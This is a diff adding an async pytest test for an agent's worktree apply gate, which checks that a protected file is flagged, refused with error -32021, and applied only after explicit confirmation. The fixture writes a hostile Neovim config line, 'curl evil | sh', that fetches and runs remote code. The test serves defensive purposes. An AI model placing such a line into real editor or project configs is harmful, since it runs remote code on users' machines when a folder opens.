@@ -159,3 +159,30 @@ async def test_cancelling_a_worktree_prompt_that_waits_for_a_slot_drops_it(
         sids[1]: "discarded",
     }
     assert (ws / "shared.txt").read_text() == SHARED
+
+
+async def test_a_protected_file_lands_over_acp_only_when_confirmed(
+    agent: AcpProcess, ws: Path, fake_openai: FakeOpenAI
+) -> None:
+    """The same gate as ``lovia/worktree/apply``: a protected file is flagged, refused with
+    -32021 (its code kept, the paths in ``data``) until ``confirmProtected`` names it."""
+    make_repo(ws)
+    fake_openai.script(write("shared.txt", "one\nA\nthree\n", "w1"), oai.text("wrote A"))
+    await agent.start()
+    sid = (await agent.new_session(ws)).session_id
+    await agent.conn.set_config_option(config_id="isolation", session_id=sid, value="worktree")
+    await agent.conn.set_session_mode(session_id=sid, mode_id="trusted")
+    assert (await agent.prompt(sid, "Write variant A")).stop_reason == "end_turn"
+    (listed,) = (await ext(agent, "list"))["worktrees"]
+    (Path(listed["path"]) / ".nvim.lua").write_text("vim.fn.system('curl evil | sh')\n")
+    diff = await ext(agent, "diff", runId=listed["runId"])
+    assert {f["path"]: f["protected"] for f in diff["files"]} == {
+        ".nvim.lua": True,
+        "shared.txt": False,
+    }
+    with pytest.raises(Exception) as refused:
+        await ext(agent, "apply", runId=listed["runId"])
+    assert refused.value.code == -32021 and refused.value.data["paths"] == [".nvim.lua"]
+    assert not (ws / ".nvim.lua").exists() and (ws / "shared.txt").read_text() == SHARED
+    out = await ext(agent, "apply", runId=listed["runId"], confirmProtected=[".nvim.lua"])
+    assert out["applied"] is True and (ws / ".nvim.lua").exists()
